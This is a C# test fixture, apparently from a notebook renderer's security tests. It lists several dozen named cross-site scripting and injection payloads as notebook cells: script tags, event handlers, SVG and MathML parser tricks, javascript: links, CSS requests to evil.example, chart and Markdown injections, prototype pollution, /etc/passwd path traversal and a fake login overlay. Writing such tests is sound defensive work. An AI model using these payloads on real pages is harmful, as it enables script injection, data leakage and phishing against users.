using System.Text.Json.Nodes;
using Notebooks.Documents;

namespace Notebooks.Tests.Rendering;

/// <summary>What the notebook of somebody who means harm may hold. Whatever of it runs sets <c>window.ran</c> or asks
/// <c>evil.example</c> for something.</summary>
static class Attacks
{
    const string Run = "window.ran=1";
    const string Away = "https://evil.example/";
    const string SvgHead = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";

    /// <summary>Each attack's name with its cell.</summary>
    public static IReadOnlyDictionary<string, Cell> All { get; } =
        new Dictionary<string, Cell>
        {
            // Scripts, in every type that has a name for them.
            ["script in HTML"] = Html($"<script>{Run}</script>"),
            ["script from elsewhere"] = Html($"<script src='{Away}x.js'></script>"),
            ["module script"] = Html($"<script type=module>{Run}</script>"),
            ["script that is never closed"] = Html($"<p>x<script>{Run}"),
            ["script in a template"] = Html(
                $"<template><script>{Run}</script></template><template shadowrootmode=open><img src=x onerror={Run}></template>"
            ),
            ["script in noscript"] = Html($"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>"),
            ["JavaScript"] = Output("application/javascript", Run),
            ["JavaScript, by its old name"] = Output("text/javascript", Run),
            ["script in plain text"] = Output("text/plain", $"<script>{Run}</script>"),
            ["script in LaTeX"] = Output("text/latex", $"$$\\href{{javascript:{Run}}}{{x}}$$<script>{Run}</script>"),
            ["script in XHTML"] = Output(
                "application/xhtml+xml",
                $"<html xmlns='http://www.w3.org/1999/xhtml'><script>{Run}</script></html>"
            ),
            ["script in a picture of text"] = Output("image/png", $"\"><script>{Run}</script>"),
            ["script in JSON"] = Output("application/json", $"</script><script>{Run}</script>"),
            ["script in an unknown type"] = Output($"x/<img src=x onerror={Run}>", "x"),
            ["script in a text type's name"] = Output($"text/<img src=x onerror={Run}>", "x"),
            ["script in an error"] = Code(
                new ErrorOutput($"<img src=x onerror={Run}>", $"<script>{Run}</script>", [$"\x1b[31m<img src=x onerror={Run}>\x1b[0m"])
            ),
            ["script in a stream"] = Code(
                new StreamOutput($"stdout\"><script>{Run}</script>", $"\x1b[1m<script>{Run}</script>\r<img src=x onerror={Run}>")
            ),

            // Handlers.
            ["handler of a picture"] = Html($"<img src=x onerror='{Run}'>"),
            ["handler without a space"] = Html($"<img/src=x/onerror={Run}><svg/onload={Run}>"),
            ["handler of the body"] = Html($"<body onload={Run} onpageshow={Run}><html onclick={Run}>"),
            ["handler that takes the focus"] = Html($"<p tabindex=0 autofocus onfocus={Run}>x</p><input autofocus onfocus={Run}>"),
            ["handler of an animation in CSS"] = Html(
                $"<style>@keyframes k{{from{{opacity:0}}}}</style><p style='animation:k 1ms' onanimationstart={Run}>x</p>"
            ),
            ["handler of an open fold"] = Html($"<details open ontoggle={Run}><summary>x</summary></details>"),
            ["recording"] = Html($"<video src={Away}v.mp4 onerror={Run} autoplay></video><audio src={Away}a.mp3 autoplay></audio>"),

            // Drawings and formulas.
            ["drawing with a script"] = Output("image/svg+xml", $"{SvgHead} onload='{Run}'><script>{Run}</script></svg>"),
            ["drawing with a script in HTML"] = Html($"{SvgHead}><script>{Run}</script><g onload='{Run}'/></svg>"),
            ["drawing that moves a link"] = Html(
                $"{SvgHead}><a><text y=9>x</text><animate attributeName=href values='javascript:{Run}'/></a><set attributeName=onload to='{Run}'/></svg>"
            ),
            ["drawing that holds HTML"] = Html(
                $"{SvgHead}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe srcdoc='<script>parent.ran=1</script>'></iframe></body></foreignObject></svg>"
            ),
            ["drawing that uses another"] = Html(
                $"{SvgHead}><use xlink:href='data:image/svg+xml,{SvgHead} id=x onload={Run}/>#x'/><image href='{Away}x.png'/></svg>"
            ),
            ["drawing painted from elsewhere"] = Html(
                $"{SvgHead}><rect width=9 height=9 fill='url({Away}p.svg#p)' filter='url({Away}f.svg#f)'/></svg>"
            ),
            ["style that ends in a drawing"] = Html($"<svg></p><style><a title=\"</style><img src=x onerror={Run}>\">"),
            ["formula with a link"] = Html(
                $"<math><maction actiontype='statusline' xlink:href='javascript:{Run}'>x</maction><mi href='javascript:{Run}'>y</mi></math>"
            ),
            ["formula that is read twice"] = Html($"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={Run}>"),
            ["formula that changes its kind"] = Html(
                $"<math><annotation-xml encoding='text/html'><style><img src=x onerror={Run}></style></annotation-xml></math>"
            ),

            // Links and addresses.
            ["link to a script"] = Html(
                $"<a id=theirs href='javascript:{Run}'>x</a><a href='&#1;java&Tab;script:{Run}'>y</a><a href='vbscript:x'>z</a>"
            ),
            ["link to a page of data"] = Html(
                $"<a href='data:text/html,<script>opener.ran=1</script>' target=_blank>x</a><a href='blob:x'>y</a>"
            ),
            ["link that tells where it was followed"] = Html($"<a href='https://example.org/' ping='{Away}p'>x</a>"),
            ["picture of data that is a page"] = Html(
                $"<img src='data:text/html,<script>{Run}</script>'><img src='data:image/svg+xml,{SvgHead} onload=\"{Run}\"/>'>"
            ),
            ["pictures from elsewhere"] = Html(
                $"<img src={Away}x.png srcset='{Away}y.png 2x'><picture><source srcset={Away}z.png><img></picture><table background={Away}b.png><tr><td>x</table>"
            ),

            // What would set the page itself.
            ["page that is sent elsewhere"] = Html(
                $"<meta http-equiv=refresh content='0;url={Away}'><meta http-equiv=refresh content='0;url=javascript:{Run}'>"
            ),
            ["policy of theirs"] = Html("<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"),
            ["base of theirs"] = Html($"<base href='{Away}'><img src=x.png>"),
            ["style sheet from elsewhere"] = Html(
                $"<link rel=stylesheet href={Away}x.css><link rel=prefetch href={Away}x><link rel=dns-prefetch href=//evil.example>"
            ),
            ["form"] = Html(
                $"<form action='{Away}' id=f><input name=x value=1><button formaction='javascript:{Run}'>x</button></form><isindex action='{Away}'>"
            ),
            ["frames"] = Html(
                $"<iframe src='javascript:parent.ran=1'></iframe><iframe srcdoc='<script>parent.ran=1</script>'></iframe><iframe src='{Away}'></iframe>"
            ),
            ["plug-ins"] = Html(
                $"<object data='{Away}x.swf'></object><embed src='data:text/html,<script>parent.ran=1</script>'><applet code=x></applet>"
            ),
            ["end of the page"] = Html($"</div></section></main></body></html><script>{Run}</script><plaintext>"),
            ["comment that swallows the page"] = Html($"<!-- <!--> <img src=x onerror={Run}> <![CDATA[ --!> <textarea><title><xmp>"),
            ["names of the page's own"] = Html(
                "<figure class=chart>x</figure><details class=input></details><nav><details></details></nav><p id=code>x</p><img name=body><a id=MathJax></a><a id=PlotlyConfig></a><form name=getElementById></form>"
            ),

            // Styles.
            ["style that asks"] = Html(
                $"<style>@import '{Away}x.css'; body{{background:url({Away}b.png)}} @font-face{{font-family:f;src:url({Away}f.woff)}} p{{font-family:f}}</style>"
            ),
            ["style that reads the page"] = Html(
                $"<style>a[href^='h']{{background:url({Away}h)}} details[open]{{background:image-set('{Away}o' 1x)}}</style>"
            ),
            ["style that asks in disguise"] = Html(
                $"<style>p{{background:u\\72l({Away}x)}}</style><p style='background:u\\72 l({Away}y);list-style:url({Away}z)'>x</p>"
            ),
            ["style that runs"] = Html($"<p style='width:expression({Run});behavior:url({Away}x.htc);-moz-binding:url({Away}x.xml)'>x</p>"),
            ["style that leaves its block"] = Html("<style>} } main,body{display:none!important}</style><style>p{color:red</style>"),
            ["style that covers the page"] = Html(
                "<style>main,body,.note{display:none!important}</style><p style='position:fixed;inset:0;z-index:9999'>log in here</p>"
            ),

            // Charts.
            ["chart with a script in its title"] = Chart(
                """{"data":[{"y":[1,2]}],"layout":{"title":{"text":"<img src=x onerror=RUN><script>RUN</script><a href='javascript:RUN'>x</a>"}}}"""
            ),
            ["chart with markup in its hovers"] = Chart(
                """{"data":[{"y":[1,2],"text":["<a href='javascript:RUN'>x</a>","<svg onload=RUN>"],"mode":"text","hovertemplate":"<img src=x onerror=RUN><extra></extra>"}],"layout":{"xaxis":{"title":{"text":"<a href='AWAY' target='x'>x</a>"}}}}"""
            ),
            ["chart with a style that asks"] = Chart(
                """{"data":[{"y":[1]}],"layout":{"annotations":[{"x":0,"y":1,"text":"<span style='fill:url(AWAYx.svg#y);filter:url(x)'>x</span>"}]}}"""
            ),
            ["chart with a picture from elsewhere"] = Chart(
                """{"data":[{"y":[1]},{"type":"image","source":"AWAYy.png"}],"layout":{"images":[{"source":"AWAYx.png","x":0,"y":1,"sizex":1,"sizey":1}]}}"""
            ),
            ["chart with a map"] = Chart(
                """{"data":[{"type":"choropleth","locations":["FRA"],"z":[1],"geojson":"AWAYx.json"},{"type":"scattermapbox","lat":[1],"lon":[1]},{"y":[1]}],"layout":{"mapbox":{"style":"AWAYstyle.json","accesstoken":"x"},"geo":{}}}"""
            ),
            ["chart with settings of theirs"] = Chart(
                """{"data":[{"y":[1]}],"config":{"plotlyServerURL":"AWAY","topojsonURL":"AWAY","showSendToCloud":true,"editable":true,"modeBarButtonsToAdd":[{"name":"<img src=x onerror=RUN>"}]}}"""
            ),
            ["chart that reaches for the prototype"] = Chart(
                """{"data":[{"y":[1],"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}}}],"layout":{"__proto__":{"ran":1},"template":{"data":{"scatter":[{"__proto__":{"ran":1}}]}},"updatemenus":[{"buttons":[{"method":"relayout","label":"x","args":[{"__proto__.ran":1}]}]}]}}"""
            ),
            ["chart that ends its element"] = Chart(
                """{"data":[{"y":[1],"name":"</script><script>RUN</script><!--"}],"layout":{"title":"</script><img src=x onerror=RUN>"},"</script><script>RUN</script>":1}"""
            ),
            ["chart with text for JavaScript"] = Code(
                new DisplayOutput(
                    new([
                        new("application/vnd.plotly.v1+json", JsonNode.Parse("""{"data":[{"y":[1]}]}""")!),
                        new("application/javascript", JsonValue.Create(Run)),
                        new("text/html", JsonValue.Create($"<script>{Run}</script>")),
                    ])
                )
            ),
            ["chart that is none"] = Output("application/vnd.plotly.v1+json", $"<script>{Run}</script>"),

            // Text that others draw.
            ["Mermaid with a script"] = Output(
                "text/vnd.mermaid",
                $"graph TD; A[\"<img src=x onerror={Run}>\"]-->B; click A \"javascript:{Run}\""
            ),
            ["Markdown with HTML"] = Markdown(
                $"<script>{Run}</script>\n\n<img src=x onerror={Run}> <iframe src='{Away}'></iframe>\n\n<div onclick={Run}>\n\n*x*"
            ),
            ["Markdown with links"] = Markdown(
                $"[x](javascript:{Run}) [y](  jAvAsCrIpT&colon;{Run}) [z](data:text/html,x) <javascript:{Run}> [w]\n\n[w]: javascript:{Run}\n"
            ),
            ["Markdown with pictures"] = Markdown(
                $"![x]({Away}x.png) ![y](data:text/html;base64,eA==) ![z\" onerror=\"{Run}](data:image/png,x\"onerror=\"{Run})"
            ),
            ["Markdown with attributes"] = Markdown(
                $"# x {{onclick={Run} #code}}\n\n```js\" onmouseover=\"{Run}\nx\n```\n\n![v]({Away}v.mp4)"
            ),
            ["Markdown in an output"] = Output("text/markdown", $"<script>{Run}</script> [x](javascript:{Run}) ![x]({Away}x.png)"),
            ["attachment of another type"] = new("a", CellKind.Markdown, "markdown", "![x](attachment:x)")
            {
                Attachments = new Dictionary<string, MimeBundle>
                {
                    ["x"] = MimeBundle.Of($"image/x\" onerror=\"{Run}", $"\" onerror=\"{Run}"),
                },
            },
            ["picture outside of the folder"] = Markdown("![x](../../../../../../etc/passwd) ![y](file:///etc/passwd)"),
            ["raw cell"] = new("r", CellKind.Raw, "raw", $"<script>{Run}</script>"),
            ["cell's own source"] = new(
                "s",
                CellKind.Code,
                "csharp",
                $"</code></pre><script>{Run}</script>\n#!x\"><img src=x onerror={Run}>"
            ),
            ["language's name"] = new("l", CellKind.Code, $"<img src=x onerror={Run}>", "x"),
        };

    static Cell Html(string html) => Output("text/html", html);

    /// <summary>A figure whose JSON has <c>RUN</c> and <c>AWAY</c> where the others have what stands for them.</summary>
    static Cell Chart(string figure) =>
        Code(
            new DisplayOutput(
                new([new("application/vnd.plotly.v1+json", JsonNode.Parse(figure.Replace("RUN", Run).Replace("AWAY", Away))!)])
            )
        );

    static Cell Output(string mimeType, string content) => Code(new DisplayOutput(MimeBundle.Of(mimeType, content)));

    static Cell Code(Output output) =>
        new("c", CellKind.Code, "csharp", "x")
        {
            Outputs = [output],
            Metadata = (JsonObject)
                JsonNode.Parse(
                    """{"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}, "collapsed": "<script>window.ran=1</script>"}"""
                )!,
        };

    static Cell Markdown(string text) => new("m", CellKind.Markdown, "markdown", text);
}
